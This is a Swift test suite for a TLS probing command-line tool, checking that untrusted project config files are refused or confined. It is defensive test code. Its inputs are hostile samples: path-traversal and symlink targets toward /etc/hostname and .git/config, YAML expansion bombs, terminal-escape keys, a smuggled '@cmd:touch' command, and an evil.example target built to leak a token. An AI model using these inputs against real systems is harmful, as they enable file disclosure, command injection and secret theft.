import CommandSupport
import Connect
import Foundation
import TestSupport
import Testing

/// Project files, which another person may have written.
@Suite struct ProjectFileTests {
  @Test(
    "a project file must not change what is verified, sent, read or written",
    arguments: [
      "insecure: true", "proxy: 'http://192.0.2.9:1'", "resolve: ['a:1:192.0.2.1']", "cacert: a.pem", "keylog: k", "output: o", "cert: c",
      "at: 2020-01-01", "profile: rfc5280", "trust: system", "verify-host: a.example", "proxy-user: 'a:b'", "intrusive: true",
      "tls-max: '1.0'",
      "doh-url: 'https://192.0.2.9/'", "insecure: false",
    ])
  func refused(option: String) async throws {
    let world = try ConfiguredWorld()
    try world.project("audit: {\(option)}")
    let run = await world.run("audit", "192.0.2.1")
    let name = option.prefix { $0 != ":" }
    #expect(run.status == 78 && run.error.hasPrefix("tlsprobe: \(world.projectFile):1:9: a project file must not set '\(name)' (hint: "))
    let trusted = await world.run("audit", "192.0.2.1", "--trust-project")
    #expect(!trusted.error.contains("must not set"), "\(trusted.error)")
    // What the user names is trusted.
    let named = await world.run("audit", "192.0.2.1", "--config", world.projectFile)
    #expect(!named.error.contains("must not set"), "\(named.error)")
    let lint = await world.run("config", "lint")
    #expect(lint.status == 0 && lint.output.contains("note: ") && lint.output.contains("must not set '\(name)'"), "\(lint.output)")
  }

  @Test(
    "a project file names files in its folder only",
    arguments: ["/etc/hostname", "../hosts.txt", "link.txt", ".git/config", "~/hosts.txt", "inner/../../hosts.txt"])
  func paths(path: String) async throws {
    let world = try ConfiguredWorld()
    try world.write(Array("192.0.2.7\n".utf8), to: world.folder.file("home/hosts.txt"))
    try FileManager.default.createSymbolicLink(atPath: world.folder.file("home/work/link.txt"), withDestinationPath: "/etc/hostname")
    try world.project("audit: {file: '\(path)'}")
    let run = await world.run("audit")
    #expect(run.status == 78 && run.error.contains(":1:15: file '\(path)' is "), "\(run.error)")
    #expect(world.requests.isEmpty)
  }

  @Test("a file in the folder is read") func file() async throws {
    let world = try ConfiguredWorld()
    try world.write(Array("192.0.2.7\n".utf8), to: world.folder.file("home/work/hosts.txt"))
    try world.project("audit: {file: hosts.txt}")
    _ = await world.run("audit")
    #expect(world.requests.first?.chain.target.description == "192.0.2.7:443")
  }

  @Test("the nearest file is used, up to the home folder") func search() async throws {
    let world = try ConfiguredWorld()
    try world.write(Array("audit: {max-time: 1}".utf8), to: world.folder.file(".tlsprobe.yaml"))
    _ = await world.run("audit", "192.0.2.1")
    #expect(world.requests.last?.maxTime == nil)
    try world.write(Array("audit: {max-time: 2}".utf8), to: world.folder.file("home/tlsprobe.yaml"))
    _ = await world.run("audit", "192.0.2.1")
    #expect(world.requests.last?.maxTime == .seconds(2))
    try world.project("audit: {max-time: 3}")
    _ = await world.run("audit", "192.0.2.1")
    #expect(world.requests.last?.maxTime == .seconds(3))
    try world.write(Array("audit: {max-time: x}".utf8), to: world.workingFolder + "/.tlsprobe.yaml")
    #expect(await world.run("audit", "192.0.2.1").error.hasPrefix("tlsprobe: .tlsprobe.yaml:1:19: invalid max-time 'x'"))
  }

  @Test(
    "a file that another user may have written is ignored with one line",
    arguments: ["writable", "owner", "link", "pipe", "folder", "large"])
  func ignored(kind: String) async throws {
    let world = try ConfiguredWorld()
    let path = world.projectFile
    let manager = FileManager.default
    switch kind {
    case "writable": try world.write(Array("audit: {max-time: 1}".utf8), to: path, mode: 0o666)
    case "owner":
      guard geteuid() == 0 else { return }
      try world.project("audit: {max-time: 1}")
      try manager.setAttributes([.ownerAccountID: 12_345], ofItemAtPath: path)
    case "link": try manager.createSymbolicLink(atPath: path, withDestinationPath: try world.user("audit: {}"))
    case "pipe": #expect(unsafe mkfifo(path, 0o600) == 0)
    case "folder": try manager.createDirectory(atPath: path, withIntermediateDirectories: false)
    default: try world.write(Array(repeating: UInt8(ascii: "#"), count: (1 << 20) + 1), to: path)
    }
    let run = await world.run("audit", "192.0.2.1")
    #expect(run.status == 2 && world.requests.last?.maxTime == nil, "\(run.error)")
    #expect(run.error.hasPrefix("tlsprobe: \(path) is ignored: "), "\(run.error)")
    #expect(run.error.split(separator: "\n").count == 2)
    #expect(await world.run("audit", "192.0.2.1", "--no-config").error.split(separator: "\n").count == 1)
  }

  @Test(
    "a hostile file is an error of one line",
    arguments: [
      String(repeating: "[", count: 5_000), String(repeating: "a: {", count: 500),
      "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\n"
        + "e: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]",
      "\u{0}\u{1}\u{2}", "audit: {\u{202e}: 1}", "audit: {\"\\e[2J\": 1}", "? [a]\n: b", "<<: {audit: {insecure: true}}",
      "audit: &x {max-time: 1}\nchain: *y", "%YAML 9.9\n---\na: b", "--- a\n--- b", "audit: !!binary x",
    ])
  func hostile(text: String) async throws {
    let world = try ConfiguredWorld()
    try world.project(text)
    for arguments in [["audit", "192.0.2.1"], ["config", "list"]] {
      let run = await world.run(list: arguments)
      #expect(run.status == 78 && run.error.split(separator: "\n").count == 1 && !run.error.contains("\u{1b}"), "\(run)")
    }
    // A mistake that was there before does not prevent an edit.
    let set = await world.run("config", "set", "--project", "audit.max-time", "3")
    #expect(set.status == 0 || set.status == 78 && world.text(world.projectFile) == text, "\(set)")
  }

  @Test func `bytes that are no text are an error`() async throws {
    let world = try ConfiguredWorld()
    try world.write([0xff, 0xfe, 0x80, 0x00, 0x41], to: world.projectFile)
    #expect(await world.run("audit", "192.0.2.1").status == 78)
    try world.write([0x61, 0x3a, 0x20, 0xc3, 0x28], to: world.projectFile)
    #expect(await world.run("audit", "192.0.2.1").status == 78)
  }

  @Test func `a command that prints a secret is run for the command line and the user's file only`() async throws {
    let world = try ConfiguredWorld()
    let mark = world.folder.file("mark")
    let value = "'@cmd:touch \(mark)'"
    try world.project("fetch:\n  bearer: \(value)\n")
    let words = ["fetch", "--trust-project", "--no-history", "http://127.0.0.1:9/"]
    let project = await world.run(list: words)
    #expect(project.status == 78 && project.error.contains("a project file must not run a command"), "\(project)")
    let named = try ConfiguredWorld(["TLSPROBE_BEARER": "@cmd:touch \(mark)"])
    let variable = await named.run(list: words)
    #expect(variable.status == 78 && variable.error.contains("a variable must not run a command"), "\(variable)")
    #expect(!FileManager.default.fileExists(atPath: mark))
    let user = try ConfiguredWorld()
    try user.user("fetch:\n  bearer: \(value)\n")
    let run = await user.run(list: words)
    #expect(run.status == 65 && run.error.contains("'touch' has printed nothing"), "\(run)")
    #expect(FileManager.default.fileExists(atPath: mark))
  }

  @Test func `a project file sets no variables without trust`() async throws {
    let world = try ConfiguredWorld()
    try world.project("profiles:\n  a:\n    variables: {host: evil.example}\n")
    let run = await world.run("fetch", "--config-profile", "a", "https://{{host}}/")
    #expect(run.status == 78 && run.error.contains("a project file must not set variables"), "\(run)")
    let lint = await world.run("config", "lint")
    #expect(lint.status == 0 && lint.output.contains("a project file must not set variables"), "\(lint)")
    try world.project("fetch:\n  targets: 'https://evil.example/{{token}}'\n")
    let target = await world.run("fetch", "--variable", "token=s3cret", "--print-curl")
    #expect(!target.output.contains("s3cret") && !target.error.contains("s3cret"), "\(target)")
    for text in ["variables: 7", "variables: [a]", "variables: {1a: b}", "variables: {a: [b]}", "variables: {a: }"] {
      try world.user("profiles:\n  a:\n    \(text)\n")
      #expect(await world.run("config", "lint", world.userFile).status == 78)
    }
  }
}
